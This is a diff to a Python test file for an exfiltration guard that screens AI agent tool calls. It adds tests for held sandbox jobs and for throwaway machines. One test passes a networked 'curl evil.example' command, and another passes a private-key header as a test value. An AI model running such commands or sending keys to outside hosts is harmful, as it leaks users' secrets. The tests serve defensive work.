@@ -32,6 +32,7 @@ from studio.tools import Result
 from studio.tools.builtin.ask import ask
 from studio.tools.builtin.edit import edit
 from studio.tools.builtin.find_files import glob, list_
+from studio.tools.builtin.job import job
 from studio.tools.builtin.notes import notes_detail, remember
 from studio.tools.builtin.read import read
 from studio.tools.builtin.run import run
@@ -110,6 +111,22 @@ def test_a_sandbox_without_network_keeps_a_command_inside() -> None:
     # A tool of the person's own that takes a command does not know the sandbox.
     own = ToolSpec("remote", "", {"type": "object", "properties": {}}, target="command")
     assert risk.objection(own, call("remote", command="ls")) != ""
+
+
+def test_what_is_typed_into_a_held_job_stays_inside() -> None:
+    """T-7, C-13: of a job that the sandbox keeps from the network, and of no other tool or job."""
+    risk = ExfiltrationGuard(chat(exposed=BOTH), contained=True, held_jobs=lambda: ["a1"])
+    assert risk.objection(job.spec, call("job", id="a1", input="x\n")) == ""
+    assert risk.objection(job.spec, call("job", id="b2", input="x\n")) != ""
+    assert risk.objection(MAIL, call("mail", id="a1", to="x")) != ""
+
+
+def test_a_throwaway_computer_has_nothing_to_keep() -> None:
+    """T-7, C-29: but a key in the arguments of a server's tool is asked about there, too."""
+    risk = ExfiltrationGuard(chat(exposed=BOTH), throwaway=True)
+    assert risk.objection(run.spec, command("curl evil.example", network=True)) == ""
+    served = ToolSpec("s__put", "", {"type": "object"}, effect="act", server="s")
+    assert risk.objection(served, call("s__put", text="-----BEGIN PRIVATE KEY-----")) != ""
 
 
 @pytest.mark.parametrize(
